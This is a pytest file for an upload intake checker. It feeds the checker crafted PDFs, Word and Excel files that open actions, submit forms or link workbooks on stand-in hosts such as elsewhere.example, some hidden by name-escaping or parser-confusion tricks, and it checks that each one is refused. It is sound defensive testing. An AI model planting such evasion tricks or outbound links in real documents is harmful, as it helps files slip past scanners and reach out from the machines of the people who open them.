"""Documents that reach out of themselves, or hide what they do where a reader of them still finds it."""

import io
import time

import pytest

from releases.files import intake
from releases.files.formats import Format
from releases.files.refusal import NotAccepted
from tests.files import specimens as made

OPENS = "The PDF opens other files. Print it to a new PDF, then upload that."
PROGRAM = "The PDF contains a program (JavaScript). Print it to a new PDF, then upload that."
ODD = "The PDF is packed in a way that cannot be looked into. Print it to a new PDF, then upload that."
MACROS = (
    "The file contains macros or embedded objects. "
    "Save it without them, as .docx, .xlsx or PDF, then upload that."
)
FORMULA = (
    "The workbook has a formula that fetches or runs something when it is opened. "
    "Replace it by its value (copy, paste as values), save it, then upload that."
)
FETCHES = (
    "The file fetches a template, picture or workbook from elsewhere when it is opened. "
    "Detach the template (Word: Developer, Document Template) or break the links "
    "(Excel: Data, Edit Links or Queries & Connections), save it, then upload that."
)
MATH = "http://schemas.openxmlformats.org/officeDocument/2006/math"
FRACTION = "<{0}:f xmlns:{0}='{1}'><{0}:num>|x|</{0}:num><{0}:den>call(x)</{0}:den></{0}:f>"
ACTS = b"<< /S /JavaScript >>"
ELSEWHERE = rb"/F (\\\\elsewhere.example\\share) /D [0 /Fit]"
PANES = "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"


def with_panes() -> bytes:
    """A Word file with an add-in from the web, which opens beside the text."""
    root = made.relations(("officeDocument", "main.xml", "Internal"))
    pane = f'<Relationship Id="p" Type="{PANES}" Target="panes.xml"/></Relationships>'
    return made.office(more={"_rels/.rels": root.replace("</Relationships>", pane), "panes.xml": "<panes/>"})


HOSTILE = {
    "a PDF that asks another machine when it is opened": (
        made.pdf(b"/AA << /O << /S /GoToE " + ELSEWHERE + b" >> >>"), OPENS
    ),
    "a PDF that leads into a file elsewhere": (
        made.pdf(b"/OpenAction << /S /Go#54oR " + ELSEWHERE + b" >>"), OPENS
    ),
    "a PDF that sends": (
        made.pdf(b"/OpenAction << /S /SubmitForm /F (http://elsewhere.example/) >>"),
        "The PDF sends what is typed into it. Print it to a new PDF, then upload that.",
    ),
    "a PDF that fetches": (
        made.pdf(b"/OpenAction << /S /ImportData /F (a.fdf) >>"),
        "The PDF fetches data. Print it to a new PDF, then upload that.",
    ),
    "packed objects that say elsewhere where they begin": (
        made.packed_pdf(ACTS, b"/N 1 /First 9 0 R /Filter /FlateDecode"), PROGRAM
    ),
    "packed objects of which a note says where they begin": (
        made.packed_pdf(ACTS, b"/N 1 /First %4\n 4 /Filter /FlateDecode"), ODD
    ),
    "packed objects with the end of an object in a text": (
        made.packed_pdf(ACTS, b"/N 1 /First 9 0 R /T (a (b) > endobj) /Filter /FlateDecode"), ODD
    ),
    "packed objects with the end of an object in a note": (
        made.packed_pdf(ACTS, b"/N 1 /First 9 0 R % endobj \n /Filter /FlateDecode"), ODD
    ),
    "packed objects with the end of an object in numbers": (
        made.packed_pdf(ACTS, b"/N 1 /First 9 0 R /T <41 endobj > /Filter /FlateDecode"), ODD
    ),
    "packed objects whose announcement is too long": (
        made.packed_pdf(ACTS, b"/N 1 /First 9 0 R /Filter /FlateDecode" + b" " * 5_000), ODD
    ),
    "a Word file with an add-in from the web": (with_panes(), MACROS),
    "a Word file with a picture from elsewhere": (
        made.linked("image", "http://e.example/", " External "), FETCHES
    ),
    "an Excel file with a cell of a workbook elsewhere": (
        made.excel(r"'\\\\elsewhere.example\\share\\[a.xlsx]Sheet'!A1"), FORMULA
    ),
    "an Excel file with a formula that calls itself a fraction": (
        made.office(made.EXCEL, more={"a.xml": f"<a xmlns:m='{MATH}'>{FRACTION.format('m', 'x')}</a>"}),
        FORMULA,
    ),
    "an Excel file with a formula behind a fraction that changes its name": (
        made.office(
            made.EXCEL,
            more={"a.xml": f"<a xmlns:m='{MATH}'><m:f><b xmlns:m='x'>\"</b></m:f><f>rtd(\"x\")</f></a>"},
        ),
        FORMULA,
    ),
    "an Excel file with a cell from the web": (made.excel("'https://e.example/[a.xlsx]Sheet'!A1"), FORMULA),
}  # fmt: skip
GOOD = {
    "a fraction with a magnitude in it": (made.word(FRACTION.format("m", MATH)), Format.DOCX),
    "a table of contents with brackets": (
        made.pdf(b"/Outlines << /First 4 0 R /Title (One \\) (two) /stream) /X <41> >>"), Format.PDF
    ),
    "a heading called First": (made.pdf(b"/Names << /FirstPage 4 0 R >>"), Format.PDF),
    "a link that is only a text": (made.excel('HYPERLINK("https://fas.org/","FAS")'), Format.XLSX),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_what_reaches_out_or_hides_is_told_what_to_do(name):
    content, sentence = HOSTILE[name]

    with pytest.raises(NotAccepted) as refused:
        intake.accept(io.BytesIO(content), name)

    assert str(refused.value) == sentence


@pytest.mark.parametrize("name", GOOD)
def test_what_only_looks_like_it_comes_in(name):
    content, format_ = GOOD[name]

    with intake.accept(io.BytesIO(content), name) as accepted:
        assert accepted.format is format_


@pytest.mark.parametrize("sign", [b"<<", b"e", b"s", b"(a)", b"(("])
def test_a_pdf_that_could_be_read_in_many_ways_is_refused_at_once(sign):
    begun = time.process_time()

    with pytest.raises(NotAccepted) as refused:
        intake.accept(io.BytesIO(made.pdf(b"/First 4 0 R " + sign * 23 + b" " * 5_000)), "odd.pdf")

    assert str(refused.value) == ODD
    assert time.process_time() - begun < 0.5
